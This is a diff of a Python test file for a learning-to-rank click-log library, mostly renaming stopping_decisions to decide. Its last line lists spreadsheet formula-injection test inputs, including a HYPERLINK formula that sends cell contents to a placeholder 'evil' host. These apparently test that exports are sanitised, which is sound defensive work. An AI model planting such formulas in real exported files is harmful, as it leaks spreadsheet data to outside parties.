@@ -8,7 +8,7 @@ import pytest
 from ltr_duel.core import InputError
 from ltr_duel.live import export_log
 from ltr_duel.live.export import LeftOutWarning
-from ltr_duel.logs import ClickLog, compare_log, stopping_decisions
+from ltr_duel.logs import ClickLog, compare_log, decide
 from tests.live.shop import NAMES, Clock, opened, settings
 from tests.live.test_experiment import use
 
@@ -40,7 +40,7 @@ def test_compare_finds_in_the_log_what_the_state_says(tmp_path, users, policy, m
     for (a, b), wins, losses, ties in zip(found.pairs, found.wins, found.losses, found.ties, strict=True):
         assert (state.wins[a, b], state.wins[b, a], state.ties[a, b]) == (wins, losses, ties)
     mine = {(one.first, one.second): one for one in state.decisions}
-    theirs = stopping_decisions(found, given.confidence)
+    theirs = decide(found, given.confidence, checks=False).pairs
     assert len(theirs) > 3
     for one in theirs:
         assert mine[one.first, one.second] == one
@@ -64,8 +64,8 @@ def test_a_page_waits_in_the_store_while_an_earlier_one_of_its_user_and_pair_is_
     assert [(row["impression"], row["user"]) for row in rows] == [("1", "ann"), ("2", "ann"), ("3", "bob")]
     assert {(row["policy"], row["propensity"]) for row in rows} == {("random", 1.0)}
     found = compare_log(ClickLog(tmp_path / "closed.jsonl"))
-    (decision,), other = stopping_decisions(found, 0.95), state.decisions[0]
-    assert decision.per_user == other.mean == 0 and other.observations == 2 and decision.observations == 3
+    (decision,), other = decide(found, 0.95, checks=False).pairs, state.decisions[0]
+    assert found.sequences.mean[0] == other.mean == 0 and other.observations == 2 and decision.observations == 3
 
 
 FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "-1", "+1", "\tx", "shoes")
